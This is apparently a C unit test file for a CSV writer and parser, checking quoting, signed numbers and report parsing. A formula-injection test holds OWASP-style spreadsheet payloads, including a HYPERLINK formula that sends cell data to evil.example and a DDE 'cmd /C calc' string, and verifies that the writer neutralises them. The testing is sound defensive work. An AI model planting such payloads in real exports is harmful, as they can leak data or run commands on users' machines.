/* test-csv.c: the CSV field writer every export uses, and the reader of
 * providers' CSV reports.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>

#include "portico-csv.h"
#include "portico-errors.h"

static char *
field (const char *text)
{
  GString *csv = g_string_new (NULL);

  portico_csv_append_field (csv, text);
  return g_string_free (csv, FALSE);
}

#define assert_field(text, expected) \
  G_STMT_START { \
    g_autofree char *out_ = field (text); \
    g_assert_cmpstr (out_, ==, expected); \
  } G_STMT_END

static void
test_quoting (void)
{
  assert_field (NULL, "");
  assert_field ("", "");
  assert_field ("plain", "plain");
  assert_field ("with, comma", "\"with, comma\"");
  assert_field ("say \"hi\"", "\"say \"\"hi\"\"\"");
  assert_field ("two\nlines", "\"two\nlines\"");
  /* Only the first character makes a formula. */
  assert_field ("a=b", "a=b");
  assert_field ("ann@example.com", "ann@example.com");
}

/* OWASP's CSV injection list: a provider-controlled value starting with any
 * of these is written with a leading single quote. */
static void
test_formula_injection (void)
{
  assert_field ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
                "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"");
  assert_field ("=1+2", "'=1+2");
  assert_field ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0");
  assert_field ("-2+3", "'-2+3");
  assert_field ("@SUM(A1:A2)", "'@SUM(A1:A2)");
  assert_field ("\t=1+2", "'\t=1+2");
  assert_field ("\r=1+2", "\"'\r=1+2\"");
  assert_field ("-", "'-");
  assert_field ("+", "'+");
  assert_field ("-1e5", "'-1e5");
  assert_field ("-1.2.3", "'-1.2.3");
}

/* A plain signed number is data, not a formula: refunds stay numbers. */
static void
test_signed_numbers (void)
{
  assert_field ("-12.50", "-12.50");
  assert_field ("+3", "+3");
  assert_field ("-0.5", "-0.5");
  assert_field ("42", "42");
}

/* Rows joined with "|" and fields with "/", for comparing. */
static char *
parsed (const char *text,
        gssize      len,
        GError    **error)
{
  g_autoptr(GPtrArray) rows = portico_csv_parse (text, len < 0 ? strlen (text) : (gsize) len, error);
  GString *out;

  if (rows == NULL)
    return NULL;
  out = g_string_new (NULL);
  for (guint i = 0; i < rows->len; i++)
    {
      g_autofree char *joined = g_strjoinv ("/", rows->pdata[i]);

      if (i > 0)
        g_string_append_c (out, '|');
      g_string_append (out, joined);
    }
  return g_string_free (out, FALSE);
}

#define assert_parsed(text, expected) \
  G_STMT_START { \
    g_autoptr(GError) error_ = NULL; \
    g_autofree char *out_ = parsed (text, -1, &error_); \
    g_assert_no_error (error_); \
    g_assert_cmpstr (out_, ==, expected); \
  } G_STMT_END

#define assert_refused(text, words) \
  G_STMT_START { \
    g_autoptr(GError) error_ = NULL; \
    g_autofree char *out_ = parsed (text, -1, &error_); \
    g_assert_null (out_); \
    g_assert_error (error_, PORTICO_CONNECTOR_ERROR, PORTICO_CONNECTOR_ERROR_BAD_RESPONSE); \
    g_assert_nonnull (strstr (error_->message, words)); \
  } G_STMT_END

/* Microsoft Graph's report downloads: a byte order mark, CRLF line ends,
 * and the last line ended too. */
static void
test_parse_report (void)
{
  assert_parsed ("\xEF\xBB\xBFReport Refresh Date,User Principal Name,Last Activity Date\r\n"
                 "2026-12-01,ann@acme.example,2026-11-30\r\n"
                 "2026-12-01,bob@acme.example,\r\n",
                 "Report Refresh Date/User Principal Name/Last Activity Date|"
                 "2026-12-01/ann@acme.example/2026-11-30|2026-12-01/bob@acme.example/");
  /* LF only, no final line end, empty lines skipped. */
  assert_parsed ("a,b\n\n1,2", "a/b|1/2");
  assert_parsed ("", "");
  assert_parsed ("\xEF\xBB\xBF", "");
  /* A lone field and empty fields. */
  assert_parsed ("x\n,\n", "x|/");
}

static void
test_parse_quotes (void)
{
  assert_parsed ("name,title\r\n\"Doe, Jane\",\"says \"\"hi\"\"\"\r\n", "name/title|Doe, Jane/says \"hi\"");
  /* A line break inside quotes is data, CRLF included. */
  assert_parsed ("a,b\n\"two\r\nlines\",x\n", "a/b|two\r\nlines/x");
  assert_parsed ("\"\",\"\"\n", "/");
  /* A carriage return not before a line feed is data. */
  assert_parsed ("a\rb,c\n", "a\rb/c");
  /* What the writer writes, the reader reads back. */
  {
    GString *csv = g_string_new (NULL);
    g_autofree char *text = NULL;

    portico_csv_append_field (csv, "say \"hi\", twice\nplease");
    g_string_append_c (csv, ',');
    portico_csv_append_field (csv, "plain");
    text = g_string_free (csv, FALSE);
    assert_parsed (text, "say \"hi\", twice\nplease/plain");
  }
}

static void
test_parse_refused (void)
{
  assert_refused ("a,b\n\"open,x\n", "line 2 is never closed");
  assert_refused ("a,b\n\"x\"y,z\n", "Line 2");
  assert_refused ("a,b\nx\"y,z\n", "not quoted");
  assert_refused ("a,b\n\xff\xfe,z\n", "not UTF-8 (line 2)");
  {
    /* An embedded NUL is no UTF-8 text either. */
    g_autoptr(GError) error = NULL;
    g_autofree char *out = parsed ("a,b\n1\0002,3\n", 10, &error);

    g_assert_null (out);
    g_assert_error (error, PORTICO_CONNECTOR_ERROR, PORTICO_CONNECTOR_ERROR_BAD_RESPONSE);
  }
}

int
main (int   argc,
      char *argv[])
{
  g_test_init (&argc, &argv, NULL);

  g_test_add_func ("/csv/quoting", test_quoting);
  g_test_add_func ("/csv/formula-injection", test_formula_injection);
  g_test_add_func ("/csv/signed-numbers", test_signed_numbers);
  g_test_add_func ("/csv/parse/report", test_parse_report);
  g_test_add_func ("/csv/parse/quotes", test_parse_quotes);
  g_test_add_func ("/csv/parse/refused", test_parse_refused);

  return g_test_run ();
}
